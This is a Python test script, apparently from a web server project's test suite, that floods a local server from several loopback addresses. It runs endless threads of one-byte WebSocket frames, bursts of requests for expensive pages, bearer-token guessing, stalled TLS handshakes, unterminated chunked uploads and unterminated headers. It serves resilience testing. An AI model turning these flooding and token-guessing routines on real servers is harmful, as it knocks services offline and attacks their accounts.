"""Hostile strangers, as a program: they flood an open server from many addresses until they are ended.

python -m tests.commands.strangers https://localhost:8443
"""

import itertools
import socket
import ssl
import sys
from collections.abc import Callable, Iterable
from contextlib import suppress
from threading import Thread
from urllib.parse import urlsplit

from tests.waiting import LIMIT
from tests.web.floods import RUSH, connection, upgrade

READ_BYTES = 1 << 17
HEAD = "HTTP/1.1\r\nHost: localhost\r\n"


class Stranger:
    """A client at one address of this machine, which doesn't check the server's certificate."""

    def __init__(self, url: str, source: str) -> None:
        self._url, self._source = url, source
        self._trust = ssl.create_default_context()
        self._trust.check_hostname, self._trust.verify_mode = False, ssl.CERT_NONE

    def bare(self) -> socket.socket:
        return connection(self._url, self._source)

    def encrypted(self) -> socket.socket:
        return self._trust.wrap_socket(self.bare(), server_hostname=urlsplit(self._url).hostname)

    def send(self, *parts: bytes) -> None:
        """Send it over a connection of its own, without reading what comes, until it is cut off."""
        with self.encrypted() as sending:
            for part in parts:
                sending.sendall(part)
            sending.recv(READ_BYTES)


def frames(stranger: Stranger) -> None:
    """Send messages of one byte over a WebSocket."""
    stranger.send(upgrade(), b"\x81\x81\0\0\0\0a" * (READ_BYTES // 7))


def rush(stranger: Stranger) -> None:
    """Ask for the most expensive pages over many connections, and close them."""
    asking = [stranger.encrypted() for _ in range(RUSH)]
    for one, path in zip(asking, itertools.cycle(("/", "/ladder", "/feed.atom", "/games")), strict=False):
        one.sendall(f"GET {path} {HEAD}\r\n".encode())
    for one in asking:
        one.recv(1)
        one.close()


def guesses(stranger: Stranger) -> None:
    """Guess tokens."""
    guess = "".join(f"GET /access {HEAD}Authorization: Bearer guess-{n}\r\n\r\n" for n in range(20))
    stranger.send(guess.encode())


def handshakes(stranger: Stranger) -> None:
    """Begin to encrypt, and stop there."""
    begun = [stranger.bare() for _ in range(RUSH)]
    for one in begun:
        one.sendall(b"\x16\x03\x01")
    for one in begun:
        one.recv(1)
        one.close()


def forms(stranger: Stranger) -> None:
    """Send a form without an end."""
    chunk = b"8000\r\n" + b"x" * 0x8000 + b"\r\n"
    stranger.send(f"POST /token {HEAD}Transfer-Encoding: chunked\r\n\r\n".encode(), *[chunk] * 100)


def heads(stranger: Stranger) -> None:
    """Send the lines of a head without an end."""
    stranger.send(f"GET / {HEAD}".encode(), *[b"x: y\r\n" * 5000] * 10)


KINDS: Iterable[Callable[[Stranger], None]] = (frames, rush, guesses, handshakes, forms, heads)


def main(url: str) -> None:
    def go_on(attack: Callable[[Stranger], None], source: str) -> None:
        stranger = Stranger(url, source)
        while True:
            with suppress(OSError):  # cut off, refused, or the server was killed
                attack(stranger)

    socket.setdefaulttimeout(LIMIT)
    for number, attack in enumerate(KINDS):
        for source in (f"127.0.1.{number + 1}", f"127.0.2.{number + 1}"):
            Thread(target=go_on, args=(attack, source)).start()
    sys.stdout.write("flooding\n")
    sys.stdout.flush()


if __name__ == "__main__":
    main(sys.argv[1])
